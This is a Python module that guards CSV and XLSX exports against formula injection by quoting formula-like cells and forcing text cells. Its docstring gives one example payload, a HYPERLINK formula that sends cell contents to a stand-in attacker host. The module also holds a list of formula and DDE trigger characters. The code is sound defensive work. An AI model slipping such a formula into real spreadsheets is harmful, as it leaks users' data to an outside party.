"""Cells for CSV and XLSX exports that a spreadsheet shows as text and never runs as a formula.

Excel, LibreOffice and Google Sheets evaluate a cell whose text starts with =, +, -, @, a tab or
a carriage return (OWASP, "CSV injection"): `=HYPERLINK("http://evil.example/?"&C2,"Details")`
in a budget line would send the sheet's figures away. Every export writes its rows through
this module: in a CSV such a text is prefixed with a single quote, in an XLSX it is a text cell
(with the quote prefix that keeps it text when edited). Numbers stay numbers.
"""

import csv
import io
import re

from openpyxl.cell.cell import Cell

# The full-width forms too: Chinese input methods type them, and Excel reads them as operators.
FORMULA_STARTS = ("=", "+", "-", "@", "|", "\t", "\r", "\n", "＝", "＋", "－", "＠")
_NUMBER = re.compile(r"^[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?$")


def formula_like(value):
    """True for a text that a spreadsheet would evaluate; a number (even as text) is not one."""
    # Spaces before the formula do not stop some spreadsheets from running it; "|" starts a
    # DDE call in older Excel.
    return (isinstance(value, str) and value.lstrip(" \u3000").startswith(FORMULA_STARTS)
            and not _NUMBER.match(value.strip()))


def csv_cell(value):
    """The value as a CSV cell: a formula-like text gets a leading single quote."""
    return f"'{value}" if formula_like(value) else value


class CsvWriter:
    """csv.writer whose rows are written through csv_cell()."""

    def __init__(self, out, **options):
        self._writer = csv.writer(out, **options)

    def writerow(self, cells):
        return self._writer.writerow([csv_cell(cell) for cell in cells])

    def writerows(self, rows):
        for cells in rows:
            self.writerow(cells)


def xlsx_cell(sheet, value):
    """An openpyxl cell holding the value; a text is always a text cell, never a formula."""
    cell = Cell(sheet, value=value)
    if isinstance(value, str):
        cell.data_type = "s"  # openpyxl would make "=…" a formula
        if formula_like(value):
            cell.quotePrefix = True
    return cell


def append_row(sheet, cells):
    """sheet.append() for exports: the row's texts are written as text cells."""
    sheet.append([xlsx_cell(sheet, value) for value in cells])


AMOUNT_FORMAT = "#,##0.00"


def header_row(sheet, header, widths=()):
    """The sheet's first row: its headings in bold, and the columns' widths."""
    from openpyxl.styles import Font
    from openpyxl.utils import get_column_letter

    append_row(sheet, header)
    for cell in sheet[1]:
        cell.font = Font(bold=True)
    for index, width in enumerate(widths, start=1):
        sheet.column_dimensions[get_column_letter(index)].width = width


def amounts_row(sheet, cells, amount_columns):
    """Append a row whose amount columns (numbered from 1) show as amounts; its number."""
    append_row(sheet, cells)
    row = sheet.max_row
    for column in amount_columns:
        sheet.cell(row, column).number_format = AMOUNT_FORMAT
    return row


def workbook_bytes(book):
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()
